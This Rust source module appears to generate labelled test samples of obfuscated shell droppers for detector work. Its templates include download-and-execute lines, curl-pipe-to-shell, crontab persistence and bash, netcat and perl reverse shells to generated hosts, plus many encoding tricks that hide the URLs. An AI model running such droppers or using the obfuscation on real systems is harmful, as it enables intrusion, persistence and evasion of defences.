//! Droppers for POSIX shells and bash.

use super::{Dice, Truth, base64, gzip, hex, reversed, rot13};
use std::fmt::Write;

const PROGRAMS: &[&str] = &["", ".sh", ".x86", ".arm7", ".bin", ".elf"];

/// A word of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    match dice.below(14) {
        0 => format!("'{text}'"),
        1 => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let name = dice.name();
                let _ = writeln!(before, "{name}=\"{piece}\"");
                let _ = write!(word, "${{{name}}}");
            }
            format!("\"{word}\"")
        }
        2 => format!("\"$(echo {} | base64 -d)\"", base64(text.as_bytes())),
        3 => format!("\"$(echo '{}' | rev)\"", reversed(text)),
        4 => {
            let escaped: String = text.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("$'{escaped}'")
        }
        5 => {
            let escaped: String = text.bytes().map(|byte| format!("\\{byte:03o}")).collect();
            format!("\"$(printf '{escaped}')\"")
        }
        6 => format!("`echo '{}' | tr 'A-Za-z' 'N-ZA-Mn-za-m'`", rot13(text)),
        7 => {
            let mark = dice.mark(text);
            let littered = dice.littered(text, &mark);
            format!("$(echo '{littered}' | sed 's/{mark}//g')")
        }
        8 => {
            let mark = dice.mark(text);
            let littered = dice.littered(text, &mark);
            let _ = writeln!(before, "{name}='{littered}'");
            // A bare `#` and `~` mean something at the beginning of a pattern.
            let mark = mark.replace('#', "\\#").replace('~', "\\~");
            format!("\"${{{name}//{mark}/}}\"")
        }
        9 => format!("\"$(echo {} | xxd -r -p)\"", hex(text.as_bytes())),
        10 => {
            let pieces = dice.pieces(text);
            let words: Vec<String> = pieces.iter().map(|piece| format!("'{piece}'")).collect();
            let _ = writeln!(before, "{name}=({})", words.join(" "));
            format!("\"$(printf %s \"${{{name}[@]}}\")\"")
        }
        11 => {
            let codes = super::codes(text.bytes(), " ");
            let letter = dice.name();
            let _ = writeln!(
                before,
                "{name}=\nfor {letter} in {codes}; do {name}=${name}$(printf \"\\\\$(printf '%03o' ${letter})\"); done"
            );
            format!("${name}")
        }
        12 => {
            let pieces = dice.pieces(text);
            let mut heap = String::new();
            let mut places = vec![(0, 0); pieces.len()];
            for at in dice.order(pieces.len()) {
                places[at] = (heap.len(), pieces[at].len());
                heap.push_str(&pieces[at]);
            }
            let _ = writeln!(before, "{name}='{heap}'");
            let word: String =
                places.iter().map(|(at, length)| format!("${{{name}:{at}:{length}}}")).collect();
            format!("\"{word}\"")
        }
        _ => {
            let packed = base64(&gzip(text.as_bytes()));
            format!("$(echo {packed} | base64 -d | gunzip)")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text =
        dice.pick(&["#!/bin/bash\n", "#!/bin/bash\ncd /tmp || cd /var/run\n"]).to_owned();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    match dice.below(8) {
        0 => format!("#!/bin/bash\neval \"$(echo {} | base64 -d)\"\n", base64(text.as_bytes())),
        1 => format!(
            "#!/bin/sh\necho {} | base64 -d | gzip -d | bash\n",
            base64(&gzip(text.as_bytes()))
        ),
        2 => format!("#!/bin/bash\nrun() {{\n{text}\n}}\nrun \"$@\"\n"),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = format!("/tmp/{}", dice.name());
    match dice.below(16) {
        0 => {
            let url = truth.url(dice, PROGRAMS);
            let url = hide(dice, &url, before);
            format!("wget -q {url} -O {file}; chmod 777 {file}; {file}\n")
        }
        1 => {
            let url = truth.url(dice, PROGRAMS);
            let url = hide(dice, &url, before);
            format!(
                "curl -fsSL -o {file} {url} && chmod +x {file} && nohup {file} >/dev/null 2>&1 &\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".sh"]);
            let url = hide(dice, &url, before);
            format!("curl -s {url} | bash\n")
        }
        3 => {
            let url = truth.url(dice, &[".sh"]);
            let url = hide(dice, &url, before);
            format!("wget -qO- {url} | sh\n")
        }
        4 => {
            let url = truth.url(dice, PROGRAMS);
            let url = hide(dice, &url, before);
            let name = dice.name();
            format!(
                "{name}={url}\n(wget -O {file} ${name} || curl -o {file} ${name} || busybox wget -O {file} ${name})\nchmod +x {file}; {file} {}\n",
                dice.name()
            )
        }
        5 => {
            let host = dice.host();
            let folder = dice.name();
            let kinds = ["x86", "mips", "mpsl", "arm", "arm5", "arm7", "ppc", "sh4"];
            let kinds = &kinds[..2 + dice.below(7)];
            for kind in kinds {
                truth.urls.insert(format!("http://{host}/{folder}/{kind}"));
            }
            let name = dice.name();
            let host = hide(dice, &host, before);
            format!(
                "{name}={host}\nfor a in {}; do\n  wget http://${name}/{folder}/$a -O {file}.$a\n  chmod 777 {file}.$a\n  {file}.$a\ndone\n",
                kinds.join(" ")
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!("bash -i >& /dev/tcp/{host}/{port} 0>&1\n")
        }
        7 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "rm -f {file};mkfifo {file};cat {file}|/bin/sh -i 2>&1|nc {host} {port} >{file}\n"
            )
        }
        8 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, before);
            format!(
                "(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL \"{url}\" | sh\") | crontab -\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".py", ".txt"]);
            let url = hide(dice, &url, before);
            format!(
                "python3 -c \"import urllib.request as r;exec(r.urlopen('\"{url}\"').read())\"\n"
            )
        }
        10 => {
            let url = truth.url(dice, PROGRAMS);
            let url = hide(dice, &url, before);
            let function = dice.name();
            format!(
                "{function}() {{\n  curl -sk \"$1\" -o \"$2\" || wget -q \"$1\" -O \"$2\"\n  chmod 755 \"$2\"; \"$2\"\n}}\n{function} {url} {file}\n"
            )
        }
        11 => {
            let host = dice.host();
            let name = dice.name();
            truth.urls.insert(format!("tftp://{host}/{name}"));
            let host = hide(dice, &host, before);
            format!("cd /tmp; tftp -g -r {name} {host}; chmod 777 {name}; ./{name}\n")
        }
        12 => {
            let url = truth.url(dice, &[".tgz", ".tar.gz"]);
            let url = hide(dice, &url, before);
            format!(
                "mkdir -p {file}; cd {file}; wget --no-check-certificate {url} -O a.tgz && tar xzf a.tgz && ./run.sh\n"
            )
        }
        13 => {
            let url = truth.url(dice, PROGRAMS);
            let url = hide(dice, &url, before);
            format!(
                "if [ \"$(id -u)\" -eq 0 ]; then d=/usr/local/bin; else d=/tmp; fi\ncurl -L {url} --output $d/{0}\nchmod 0755 $d/{0}\nsetsid $d/{0} &\n",
                dice.name()
            )
        }
        14 => {
            let url = truth.url(dice, PROGRAMS);
            let url = hide(dice, &url, before);
            format!(
                "cat > {file}.sh <<EOF\n#!/bin/sh\nwget -q {url} -O {file}\nsh {file}\nEOF\nbash {file}.sh\n"
            )
        }
        _ => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "perl -e 'use Socket;$i=\"'{host}'\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");exec(\"/bin/sh -i\");}}'\n"
            )
        }
    }
}
